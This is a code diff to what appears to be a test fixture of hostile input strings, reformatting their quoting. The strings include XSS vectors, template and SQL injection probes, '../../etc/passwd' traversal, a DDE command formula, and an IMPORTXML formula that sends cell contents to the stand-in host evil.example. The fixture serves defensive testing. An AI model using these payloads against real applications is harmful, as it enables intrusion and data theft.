@@ -13,7 +13,7 @@ MARKUP = (
     "<img src=x onerror=alert(1)>",
     "<svg onload=alert(1)>",
     "<svg><script>alert(1)</script></svg>",
-    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
     "<iframe src=javascript:alert(1)></iframe>",
     "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
     "<a href=javascript:alert(1)>talks</a>",
@@ -37,13 +37,13 @@ MARKUP = (
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
 )
 QUOTES = (
-    "\" onmouseover=\"alert(1)",
+    '" onmouseover="alert(1)',
     "' onmouseover='alert(1)",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "'><script>alert(1)</script>",
     "` onmouseover=`alert(1)",
-    "x\" autofocus onfocus=alert(1) \"",
-    "\" style=\"position:fixed;inset:0",
+    'x" autofocus onfocus=alert(1) "',
+    '" style="position:fixed;inset:0',
     "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
     "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
     "%3Cscript%3Ealert(1)%3C/script%3E",
@@ -55,12 +55,12 @@ QUOTES = (
     "{% for x in session.__class__.__mro__ %}{{ x }}{% endfor %}",
     "${7*7}#{7*7}",
     "__proto__",
-    "]]>\"}];alert(1);//",
+    ']]>"}];alert(1);//',
     "\u2028\u2029alert(1)",
 )
 FORMULAS = (
     "=1+1",
-    "=HYPERLINK(\"https://evil.example\",\"talks\")",
+    '=HYPERLINK("https://evil.example","talks")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
@@ -70,8 +70,8 @@ FORMULAS = (
     "\n=1+1",
     " =1+1",
     "＝1+1",
-    "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
-    "\"=1+1",
+    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+    '"=1+1',
 )
 PATHS = (
     "../../etc/passwd",
@@ -99,7 +99,7 @@ CHARACTERS = (
     "\ufeffbom",
     "x" * 3000,
     "' OR 1=1; DROP TABLE reports; --",
-    "\" OR \"\"=\"",
-    "MATCH * NEAR/0 \"unclosed",
+    '" OR ""="',
+    'MATCH * NEAR/0 "unclosed',
 )
 HOSTILE = (*MARKUP, *QUOTES, *FORMULAS, *PATHS, *CHARACTERS)
